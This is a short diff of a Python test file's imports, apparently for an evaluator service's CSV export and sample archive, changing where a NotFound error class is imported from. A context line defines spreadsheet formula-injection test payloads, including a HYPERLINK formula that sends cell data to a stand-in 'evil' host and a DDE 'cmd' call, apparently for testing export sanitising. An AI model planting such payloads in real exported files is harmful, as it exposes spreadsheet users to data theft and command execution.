@@ -9,13 +9,13 @@ from typing import Any
 from uuid import UUID
 
 import pytest
+from loupe.errors import NotFound
 
 from services.evaluator.domain.report import SampleResult, StoredSample, Verdict
 from services.evaluator.drilldown.archive import INDEX, zip_samples
 from services.evaluator.exporting.table import csv_of
 from services.evaluator.relabelling import wire
 from services.evaluator.relabelling.domain import Mark
-from services.kit.errors import NotFound
 
 FORMULAS = ('=HYPERLINK("http://evil/"&A1)', "+1+cmd|'/c calc'!A0", "@SUM(1)", "-1+1", "\t=1")
 NOW = datetime(2026, 1, 1, tzinfo=UTC)
